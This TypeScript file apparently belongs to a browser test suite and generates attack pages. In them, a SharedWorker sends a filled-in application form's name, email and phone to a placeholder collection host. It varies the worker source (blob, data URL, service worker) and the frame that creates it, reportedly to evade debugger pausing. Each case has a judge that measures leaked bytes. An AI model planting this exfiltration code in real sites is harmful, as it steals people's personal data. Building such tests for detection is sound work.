import type { PageAttack } from '../attack';
import type { Evidence } from '../stage/evidence';
import { bytesReceived, frozenIn } from '../stage/judging';
import { applicationPage } from './markup';

/*
 * A shared worker that begins once the answers are there, and sends them. No debugger pauses what it asks for, and its script may come
 * without a request.
 */

/** What the worker does with what it is told. */
const script = `onconnect = ({ ports: [port] }) => { port.onmessage = ({ data: [url, body] }) => fetch(url, { method: 'POST', mode: 'no-cors', body }); };`;

/** Where its script comes from. */
const scripts: Readonly<Record<string, string>> = {
  blob: `URL.createObjectURL(new Blob([${JSON.stringify(script)}], { type: 'text/javascript' }))`,
  data: `'data:text/javascript,' + encodeURIComponent(${JSON.stringify(script)})`,
  'address-with-fragment': `'/shared.js#x'`,
  'service-worker': `'/from-service-worker.js'`,
};

/** Whose it is: its own requests come from there. */
const makers: Readonly<Record<string, (make: string) => string>> = {
  page: (make) => `send(to, text); function send(url, body) { ${make} }`,
  'empty-frame': (make) =>
    `const inner = document.body.appendChild(document.createElement('iframe')).contentWindow; inner.eval(${JSON.stringify(`function send(url, body) { ${make} }`)}); inner.send(to, text)`,
  'late-frame': () =>
    `const late = Object.assign(document.createElement('iframe'), { src: '{{sub}}/late' }); late.onload = () => late.contentWindow.postMessage([to, text], '*'); document.body.append(late)`,
};

const targets = { own: '{{site}}/applications/submit', other: '{{other}}/collected' } as const;

const page = (from: string, make: string, to: string) => `${applicationPage()}<script>
navigator.serviceWorker.register('/service-worker.js');
const form = document.forms[0];
const to = '${to}';
let isOver = false;
form.addEventListener('change', () => {
  if (isOver || ['first_name', 'last_name', 'email', 'phone'].some((name) => form[name].value === '')) return;
  isOver = true;
  const text = new URLSearchParams([...new FormData(form)]).toString();
  ${makers[from]?.(make) ?? ''};
});
</script>`;

const makeOf = (source: string): string => `new SharedWorker(${source}).port.postMessage([url, body])`;

const serviceWorker = `self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', (event) => event.waitUntil(clients.claim()));
self.addEventListener('fetch', (event) => { if (event.request.url.endsWith('/from-service-worker.js')) event.respondWith(new Response(${JSON.stringify(script)}, { headers: { 'content-type': 'text/javascript' } })); });`;

/** What a worker without an origin sends as it begins nothing holds: it is told. */
const judgeOf = (kind: string) => (evidence: Evidence) => {
  const isTold = kind === 'data' && evidence.told > 0;
  return {
    submits: isTold || bytesReceived(evidence, ['site']) === 0 ? 0 : 1,
    bytesElsewhere: isTold ? 0 : bytesReceived(evidence, ['other', 'port', 'sub']),
    frozen: frozenIn(evidence),
    told: evidence.told,
  };
};

export const sharedWorkerSends: PageAttack[] = Object.entries(scripts).flatMap(([kind, source]) =>
  Object.keys(makers).flatMap((maker) =>
    Object.entries(targets).map(
      ([target, to]): PageAttack => ({
        id: `shared-worker-sends/${kind}/by-${maker}/to-${target}`,
        class: 'shared-worker-sends',
        goal: `a shared worker from ${kind}, made by the ${maker}, sends what was filled in`,
        needsBrowser: true,
        stage: {
          run: { kind: 'fill' },
          settleMs: 1_500,
          pages: {
            site: {
              '/': page(maker, makeOf(source), to),
              '/shared.js': script,
              '/service-worker.js': serviceWorker,
            },
            sub: {
              '/late': `<script>onmessage = ({ data: [url, body] }) => { ${makeOf(source)} };</script>`,
              '/shared.js': script,
            },
          },
        },
        judge: judgeOf(kind),
      }),
    ),
  ),
);
